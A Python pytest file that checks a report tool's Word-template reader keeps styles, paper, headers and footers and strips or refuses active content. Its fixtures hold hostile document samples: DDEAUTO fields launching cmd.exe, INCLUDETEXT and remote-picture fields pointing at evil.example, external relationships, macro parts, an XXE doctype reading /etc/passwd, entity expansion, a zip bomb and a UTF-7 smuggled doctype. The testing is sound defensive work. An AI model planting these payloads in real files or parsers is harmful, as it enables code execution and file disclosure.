"""A template lends its styles, paper, header and footer; it runs nothing, fetches nothing, and what is none is refused."""

from __future__ import annotations

import io
import os
import re
from pathlib import Path
from typing import TYPE_CHECKING, Final, TypeAlias
from zipfile import ZIP_DEFLATED, ZipFile

import pytest
from docx import Document as WordFile
from docx.enum.section import WD_ORIENT
from docx.shared import Mm, RGBColor

from chronicle.render.as_png import as_png
from chronicle.render.as_svg import Setting
from chronicle.render.word_template import TemplateError, read_template
from tests.long_run import first_of
from tests.render.fixture_documents import chart, document, part
from tests.render.test_word_documents import written

if TYPE_CHECKING:
    from collections.abc import Callable, Mapping

    from docx.document import Document as WordDocument

    from chronicle.composite import Document
    from tests.conftest import Chronicle

Lent: TypeAlias = "Callable[..., tuple[WordDocument, list[str], bytes]]"
NAMESPACES: Final = (
    'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" '
    'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
    'xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:v="urn:schemas-microsoft-com:vml"'
)
HEADER: Final = "word/header1.xml"
TYPES: Final = "[Content_Types].xml"
WORD: Final = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
MACROS: Final = "application/vnd.ms-word.document.macroEnabled.main+xml"


def firm() -> WordDocument:
    """Return a template as a firm has it: fonts, a letterhead with a logo, a footer, paper with broad margins."""
    made = WordFile()
    made.styles["Heading 1"].font.name = "Georgia"
    made.styles["Heading 1"].font.color.rgb = RGBColor(0x80, 0, 0x20)
    section = made.sections[0]
    section.page_width, section.page_height = Mm(216), Mm(279)
    section.left_margin, section.top_margin = Mm(40), Mm(45)
    run = section.header.paragraphs[0].add_run()
    run.add_picture(io.BytesIO(as_png(chart(), 400, 1, Setting())))
    section.header.paragraphs[0].add_run("Firm & Partners")
    section.footer.paragraphs[0].text = "Privileged"
    made.add_paragraph("What the template says")
    return made


def bytes_of(
    made: WordDocument, changes: Mapping[str, Callable[[bytes], bytes] | bytes] | None = None
) -> bytes:
    """Return a document as a file, some of its parts changed, or added."""
    file, changed = io.BytesIO(), io.BytesIO()
    made.save(file)
    changes = dict(changes or {})
    with ZipFile(file) as parts, ZipFile(changed, "w", ZIP_DEFLATED) as archive:
        for name in {**dict.fromkeys(parts.namelist()), **changes}:
            content = parts.read(name) if name in parts.namelist() else b""
            change = changes.get(name)
            archive.writestr(
                name, change(content) if callable(change) else content if change is None else change
            )
    return changed.getvalue()


def with_header(xml: str) -> bytes:
    """Return a template that has XML as the paragraphs of its header."""
    return bytes_of(firm(), {HEADER: f"<w:hdr {NAMESPACES}>{xml}</w:hdr>".encode()})


@pytest.fixture
def lent(tmp_path: Path) -> Lent:
    """Write a document by a template; return it as read, what was said, and its bytes."""

    def write(
        template: bytes, whole: Document | None = None, table_style: str | None = None
    ) -> tuple[WordDocument, list[str], bytes]:
        path = tmp_path / "firm.docx"
        path.write_bytes(template)
        read = read_template(path)
        told = list(read.notices)
        content = written(whole or document(), template=read, table_style=table_style, notify=told.append)
        return WordFile(io.BytesIO(content)), told, content

    return write


class TestWhatIsLent:
    def test_styles_paper_header_and_footer(self, lent: Lent) -> None:
        found, told, content = lent(bytes_of(firm()))
        assert told == []
        section = found.sections[0]
        lengths = (section.page_width, section.page_height, section.left_margin, section.top_margin)
        assert [round(length.mm) for length in lengths if length] == [216, 279, 40, 45]
        assert section.header.paragraphs[0].text == "Firm & Partners"
        assert section.footer.paragraphs[0].text == "Privileged"
        assert found.styles["Heading 1"].font.name == "Georgia"
        assert {one.style.name for one in found.paragraphs if one.style} >= {
            "Title",
            "Heading 1",
            "Heading 2",
        }
        assert "What the template says" not in "".join(one.text for one in found.paragraphs)
        with ZipFile(io.BytesIO(content)) as archive:
            assert archive.read("word/media/lent1-1.png").startswith(b"\x89PNG")

    def test_a_broad_table_turns_its_paper(self, lent: Lent) -> None:
        broad = part("two", "a source and its page", is_broad=True)
        found, _, _ = lent(bytes_of(firm()), document()._replace(parts=[part("one"), broad]))
        upright, across = found.sections
        assert across.orientation is WD_ORIENT.LANDSCAPE
        assert (across.page_width, across.page_height) == (upright.page_height, upright.page_width)
        assert across.header.paragraphs[0].text == "Firm & Partners"

    def test_a_style_is_known_by_its_name_whatever_its_id(self, lent: Lent) -> None:
        def in_german(styles: bytes) -> bytes:
            return styles.replace(b'"Heading1"', b'"berschrift1"').replace(b'"Heading 1"', b'"heading 1"')

        found, told, content = lent(bytes_of(firm(), {"word/styles.xml": in_german}))
        assert told == []
        with ZipFile(io.BytesIO(content)) as archive:
            assert b'<w:pStyle w:val="berschrift1"/>' in archive.read("word/document.xml")
        assert found.styles["Heading 1"].style_id == "berschrift1"

    def test_what_it_lacks_is_ours_with_a_word(self, lent: Lent) -> None:
        made = firm()
        for name in ("Title", "Heading 2"):
            made.styles.element.remove(made.styles[name].element)
        found, told, _ = lent(bytes_of(made), table_style="Firm table")
        assert told == [
            f'firm.docx has no style "{name}": one of Chronicle\'s stands in for it.'
            for name in ("Title", "Heading 2", "Firm table")
        ]
        named = {one.style.name: one.text for one in found.paragraphs if one.style and one.text}
        assert named["Title"] == "Ann Archer"
        assert "Heading 2" in named
        assert found.styles["Heading 2"].font.bold

    def test_a_style_of_tables_that_it_has(self, lent: Lent) -> None:
        found, told, _ = lent(bytes_of(firm()), table_style="Light Grid Accent 1")
        assert told == []
        assert {table.style.name for table in found.tables if table.style} == {"Light Grid Accent 1"}

    def test_one_without_header_and_footer_has_ours(self, lent: Lent) -> None:
        found, _, _ = lent(bytes_of(WordFile()))
        assert found.sections[0].header.paragraphs[0].text == "Ann Archer"
        assert found.sections[0].different_first_page_header_footer

    def test_headers_of_first_and_even_pages(self, lent: Lent) -> None:
        made = firm()
        made.settings.odd_and_even_pages_header_footer = True
        section = made.sections[0]
        section.different_first_page_header_footer = True
        section.first_page_header.paragraphs[0].text = "First"
        section.even_page_header.paragraphs[0].text = "Even"
        found, told, _ = lent(bytes_of(made))
        assert told == []
        assert found.sections[0].first_page_header.paragraphs[0].text == "First"
        assert found.sections[0].even_page_header.paragraphs[0].text == "Even"
        assert found.settings.odd_and_even_pages_header_footer

    def test_a_template_of_word_is_one_too(self, lent: Lent) -> None:
        kind = WORD.replace("document.main", "template.main").encode()
        found, told, _ = lent(bytes_of(firm(), {TYPES: lambda types: types.replace(WORD.encode(), kind)}))
        assert told == []
        assert found.sections[0].footer.paragraphs[0].text == "Privileged"

    def test_the_same_bytes_again(self, lent: Lent) -> None:
        template = bytes_of(firm())
        assert lent(template)[2] == lent(template)[2]


def complex_field(code: str, shown: str = "shown") -> str:
    begin, separate, end = (
        f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "separate", "end")
    )
    text = f"<w:r><w:instrText>{code}</w:instrText></w:r>"
    return f"<w:p>{begin}{text}{separate}<w:r><w:t>{shown}</w:t></w:r>{end}</w:p>"


HARMLESS: Final = (
    complex_field("PAGE"),
    complex_field(r" NUMPAGES \* MERGEFORMAT "),
    complex_field('STYLEREF "Heading 1"'),
    '<w:p><w:fldSimple w:instr=" PAGE "><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>',
)
LOADED: Final = {
    "a field that includes a text": complex_field('INCLUDETEXT "http://evil.example/a.docx"'),
    "a field that shows a picture": complex_field('INCLUDEPICTURE "http://evil.example/a.png" \\d'),
    "a field that runs a program": complex_field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe evil.example"),
    "a field in another": "<w:p>"
    '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>PAGE </w:instrText></w:r>'
    f"{complex_field('DDE evil.example')[5:-6]}"
    '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>',
    "a field in pieces": "<w:p>"
    '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>PAGE</w:instrText></w:r>'
    '<w:r><w:instrText>REF evil.example</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>',
    "a field that never ends": '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    "<w:r><w:instrText>DDE evil.example</w:instrText></w:r></w:p>",
    "a field that never begins": "<w:p><w:r><w:instrText>DDE evil.example</w:instrText></w:r></w:p>",
    "a simple field": '<w:p><w:fldSimple w:instr="DDE evil.example"><w:r><w:t>shown</w:t></w:r></w:fldSimple></w:p>',
    "a form that runs a macro": '<w:p><w:r><w:fldChar w:fldCharType="begin"><w:ffData><w:entryMacro w:val="evil.example"/>'
    '</w:ffData></w:fldChar></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>',
    "a link": '<w:p><w:hyperlink r:id="rIdOut"><w:r><w:t>shown</w:t></w:r></w:hyperlink></w:p>',
    "a remote picture": '<w:p><w:r><w:drawing><a:blip r:link="rIdOut"/></w:drawing></w:r></w:p>',
    "a picture of VML": '<w:p><w:r><w:pict><v:shape href="http://evil.example"><v:imagedata src="http://evil.example"'
    ' r:id="rIdOut" o:relid="rIdOut"/></v:shape></w:pict></w:r></w:p>',
    "a click on a picture": '<w:p><w:r><w:drawing><a:hlinkClick r:id="rIdOut"/></w:drawing></w:r></w:p>',
    "an embedded object": '<w:p><w:r><w:object><o:OLEObject ProgID="evil.example" r:id="rIdOut"/></w:object></w:r></w:p>',
    "a control": '<w:p><w:r><w:control r:id="rIdOut" w:name="evil.example"/></w:r></w:p>',
    "another document": '<w:p><w:subDoc r:id="rIdOut"/></w:p><w:altChunk r:id="rIdOut"/>',
}
OUTSIDE: Final = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rIdOut" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" '
    'Target="http://evil.example/" TargetMode="External"/></Relationships>'
)


class TestATemplateRunsNothing:
    @pytest.mark.parametrize("header", HARMLESS)
    def test_page_numbers_and_titles_stay(self, header: str, lent: Lent) -> None:
        _, told, content = lent(with_header(header))
        assert told == []
        with ZipFile(io.BytesIO(content)) as archive:
            shown = archive.read("word/lent1.xml").decode()
        for code in re.findall(r"<w:instrText>(.*?)</w:instrText>|w:instr=\"(.*?)\"", header):
            assert "".join(code) in shown

    @pytest.mark.parametrize("header", first_of(LOADED.values(), 6), ids=LOADED)
    def test_all_else_goes_with_a_word(self, header: str, lent: Lent) -> None:
        rels = {f"word/_rels/{Path(HEADER).name}.rels": OUTSIDE.format(kind="image").encode()}
        template = bytes_of(firm(), {HEADER: f"<w:hdr {NAMESPACES}>{header}</w:hdr>".encode(), **rels})
        _, told, content = lent(template)
        (word,) = told
        assert word.startswith("firm.docx: its header, its footer and its styles come without ")
        with ZipFile(io.BytesIO(content)) as archive:
            for name in archive.namelist():
                assert b"evil" not in archive.read(name), name
            shown = archive.read("word/lent1.xml").decode()
        assert "rIdOut" not in shown
        assert ("shown" in shown) is ("shown" in header)
        assert shown.count("begin") == shown.count('"end"')

    def test_nothing_but_what_is_lent_is_read(self, lent: Lent) -> None:
        made = bytes_of(
            firm(),
            {
                "word/_rels/settings.xml.rels": OUTSIDE.format(kind="attachedTemplate").encode(),
                "word/embeddings/oleObject1.bin": b"evil",
                "word/activeX/activeX1.bin": b"evil",
                "customXml/item9.xml": b"<evil/>",
                "word/document.xml": lambda body: body.replace(
                    b"What the template says", b"evil</w:t></w:r></w:p><w:p><w:r><w:t>"
                ),
            },
        )
        _, told, content = lent(made)
        assert told == []
        with ZipFile(io.BytesIO(content)) as archive:
            for name in archive.namelist():
                assert b"evil" not in archive.read(name), name
                assert "embeddings" not in name
                assert "activeX" not in name
                assert name.endswith("document.xml.rels") or b"External" not in archive.read(name), name

    def test_a_header_of_which_nothing_is_left_has_an_empty_paragraph(self, lent: Lent) -> None:
        found, _, _ = lent(with_header('<w:altChunk r:id="rIdOut"/>'))
        assert [one.text for one in found.sections[0].header.paragraphs] == [""]

    def test_comments_and_instructions_to_programs_go(self, lent: Lent) -> None:
        _, _, content = lent(with_header("<!-- secret --><?mso-application secret?><w:p/>"))
        with ZipFile(io.BytesIO(content)) as archive:
            assert b"secret" not in archive.read("word/lent1.xml")


def directory_of(number: int) -> bytes:
    file = io.BytesIO()
    with ZipFile(file, "w") as archive:
        for name in range(number):
            archive.writestr(f"word/{name:060}", b"")
    return file.getvalue()


def swollen() -> bytes:
    return bytes_of(firm(), {"word/styles.xml": b" " * (9 * 2**20)})


def lying() -> bytes:
    """Return a file whose styles declare that they are small, and are not."""
    content = swollen()
    return content.replace((9 * 2**20).to_bytes(4, "little"), (1000).to_bytes(4, "little"))


def styles(content: bytes) -> bytes:
    return bytes_of(firm(), {"word/styles.xml": content})


REFUSED: Final[dict[str, tuple[Callable[[], bytes], str]]] = {
    "an empty file": (lambda: b"", "is no Word document, or broken"),
    "a text": (lambda: b"a text", "is no Word document, or broken"),
    "half a file": (lambda: bytes_of(firm())[:9000], "is no Word document, or broken"),
    "another archive": (lambda: directory_of(0), "is no Word document"),
    "an archive of nothing known": (lambda: directory_of(3), "is no Word document"),
    "an old or an encrypted document": (
        lambda: b"\xd0\xcf\x11\xe0" * 200,
        "is encrypted, or a document of Word 97",
    ),
    "macros by their part": (lambda: bytes_of(firm(), {"word/vbaProject.bin": b"x"}), "has macros"),
    "macros by their type": (
        lambda: bytes_of(firm(), {TYPES: lambda types: types.replace(WORD.encode(), MACROS.encode())}),
        "has macros",
    ),
    "a workbook": (
        lambda: bytes_of(firm(), {TYPES: lambda types: types.replace(b"wordprocessingml.document", b"x")}),
        "is no Word document",
    ),
    "very many parts": (lambda: directory_of(5000), "very many parts"),
    "a part that unpacks to much": (swollen, "which is too much"),
    "a part that says that it is small": (lying, "is no Word document, or broken"),
    "entities": (
        lambda: styles(b'<!DOCTYPE a [<!ENTITY b "&#65;"><!ENTITY c "&b;&b;">]><a>&c;</a>'),
        "declares entities",
    ),
    "a file outside": (lambda: styles(b'<!DOCTYPE a SYSTEM "file:///etc/passwd"><a/>'), "declares entities"),
    "another encoding": (lambda: styles('<?xml version="1.0"?><a/>'.encode("utf-16")), "or broken"),
    "an encoding that hides": (
        lambda: styles(b'<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE a+AD4-<a/>'),
        "or broken",
    ),
    "depth without end": (lambda: styles(b"<a>" * 100_000 + b"</a>" * 100_000), "or broken"),
    "tags without end": (lambda: styles(b"<a>" + b"<b/>" * 500_000 + b"</a>"), "tags, which is too much"),
    "no XML": (lambda: styles(b"<a"), "or broken"),
    "other XML": (lambda: styles(b"<a/>"), "another kind of Open XML"),
    "no room for a text": (
        lambda: bytes_of(
            firm(), {"word/document.xml": lambda body: re.sub(rb'w:left="\d+"', b'w:left="11000"', body)}
        ),
        "its margins leave no room",
    ),
}


class TestWhatIsNoTemplate:
    @pytest.mark.parametrize(("made", "message"), REFUSED.values(), ids=REFUSED)
    def test_it_is_refused_before_anything_is_written(
        self, made: Callable[[], bytes], message: str, tmp_path: Path, chronicle: Chronicle
    ) -> None:
        template, out = tmp_path / "firm.docx", tmp_path / "report.docx"
        template.write_bytes(made())
        answer = chronicle("report", "-o", str(out), "--template", str(template))
        assert (answer.code, answer.out, out.exists()) == (2, "", False)
        assert message in answer.err
        assert "hint: " in answer.err
        assert len(answer.err) < 600

    def test_a_directory_or_nothing(self, tmp_path: Path) -> None:
        with pytest.raises(TemplateError, match="is a directory"):
            read_template(tmp_path)
        with pytest.raises(TemplateError, match="there is no file"):
            read_template(tmp_path / "none.docx")

    @pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="this system has no named pipes")
    def test_a_pipe_that_nobody_writes_to(self, tmp_path: Path) -> None:
        os.mkfifo(tmp_path / "pipe.docx")
        with pytest.raises(TemplateError, match="is no regular file"):
            read_template(tmp_path / "pipe.docx")

    @pytest.mark.skipif(not hasattr(os, "geteuid") or os.geteuid() == 0, reason="root reads everything")
    def test_a_file_that_may_not_be_read(self, tmp_path: Path) -> None:
        path = tmp_path / "firm.docx"
        path.touch(mode=0)
        with pytest.raises(TemplateError, match="cannot read"):
            read_template(path)

    def test_another_format_has_no_template(self, tmp_path: Path, chronicle: Chronicle) -> None:
        answer = chronicle("report", "-f", "md", "--template", str(tmp_path / "firm.docx"))
        assert (answer.code, answer.out) == (2, "")
        assert "--template goes with docx, not with md" in answer.err


def test_the_command_writes_by_a_template_and_says_what_it_left_out(
    tmp_path: Path, chronicle: Chronicle
) -> None:
    template, out = tmp_path / "firm.dotx", tmp_path / "report.docx"
    template.write_bytes(with_header(LOADED["a simple field"]))
    answer = chronicle("report", "--section", "people", "-o", str(out), "--template", str(template))
    assert answer.code == 0
    assert "firm.dotx: its header, its footer and its styles come without field codes" in answer.err
    assert WordFile(str(out)).sections[0].footer.paragraphs[0].text == "Privileged"
